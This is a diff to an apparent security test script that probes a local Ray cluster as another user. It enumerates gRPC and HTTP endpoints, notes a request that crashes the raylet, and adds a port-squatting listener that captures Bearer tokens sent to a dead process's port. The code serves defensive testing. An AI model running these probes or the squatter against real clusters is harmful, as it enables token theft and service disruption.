@@ -1,7 +1,7 @@
 """What somebody else on the machine can try on a Ray: one step a process, told by environment.
 
-Run as another user, with or without a token. A step prints `REACHED` and what it got, or fails.
-It imports nothing of ours, so that it can lie wherever that user may read.
+Run as another user, with or without the session's token and certificate. A step prints `REACHED`
+and what it got, or fails. It imports nothing of ours, so that it can lie where that user may read.
 """
 
 import json
@@ -17,9 +17,10 @@ from pathlib import Path
 
 TOLD = json.loads(os.environ["ATTACK"])
 TOKEN = os.environ.get("RAY_AUTH_TOKEN")
+CERTIFICATE, KEY = (os.environ.get(f"RAY_TLS_SERVER_{name}") for name in ("CERT", "KEY"))
 REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
-# A request of RaySyncer without a node's id ends the raylet (a check fails before the token is
-# asked for); with one it is refused like every other.
+# Without a node's id, a request of RaySyncer ends the raylet: a check fails before the token is
+# asked for. It takes the certificate to get that far.
 NODE = (("node_id", "ab" * 28),)
 PAGES = ("/", "/metrics", "/api/jobs/", "/api/job_agent/jobs/x/logs", "/logs/", "/api/healthz")
 POSTS = ("/api/job_agent/jobs/", "/get_or_create_runtime_env", "/delete_runtime_env_if_possible")
@@ -88,6 +89,7 @@ def calls():
     """Every method of every gRPC service that a port has, and every HTTP path that we know.
 
     Prints a JSON object: answer by process, port and path. With a token, only what changes nothing.
+    A port without gRPC, or that we cannot speak gRPC with, is tried by HTTP.
     """
     answers = {}
     for port, name in TOLD["names"].items():
@@ -105,7 +107,7 @@ def grpc_answers(port):
     """(path, code) of each method, empty requests; nothing where a port speaks no gRPC."""
     import grpc
 
-    channel = grpc.insecure_channel(f"127.0.0.1:{port}")
+    channel = connected(port)
     with suppress(grpc.FutureTimeoutError):
         grpc.channel_ready_future(channel).result(timeout=2)
         told = NODE if TOKEN is None else (*NODE, ("authorization", f"Bearer {TOKEN}"))
@@ -122,6 +124,47 @@ def grpc_answers(port):
             except grpc.RpcError as e:
                 if e.code() != grpc.StatusCode.UNIMPLEMENTED:
                     yield path, e.code().name
+
+
+def connected(port):
+    import grpc
+
+    address = f"127.0.0.1:{port}"
+    if not KEY:
+        return grpc.insecure_channel(address)
+    certificate, key = Path(CERTIFICATE).read_bytes(), Path(KEY).read_bytes()
+    return grpc.secure_channel(address, grpc.ssl_channel_credentials(certificate, key, certificate))
+
+
+def squat():
+    """Take the port of a process that has died and print what the others send there."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    import grpc
+
+    class Listener(grpc.GenericRpcHandler):
+        def service(self, call):
+            sent = dict(call.invocation_metadata).get("authorization", "")
+            print("REACHED" if sent.startswith("Bearer ") else "", call.method, flush=True)
+
+    address = f"127.0.0.1:{TOLD['freed']}"
+    server = grpc.server(ThreadPoolExecutor(4), (Listener(),), options=[("grpc.so_reuseport", 0)])
+    until = time.monotonic() + 60
+    while True:
+        try:
+            if KEY:
+                pair = (Path(KEY).read_bytes(), Path(CERTIFICATE).read_bytes())
+                server.add_secure_port(address, grpc.ssl_server_credentials([pair]))
+            else:
+                server.add_insecure_port(address)
+            break
+        except RuntimeError:  # not free yet
+            if time.monotonic() > until:
+                raise
+            time.sleep(0.02)
+    server.start()
+    print("TAKEN", flush=True)
+    time.sleep(10)
 
 
 def methods(channel):
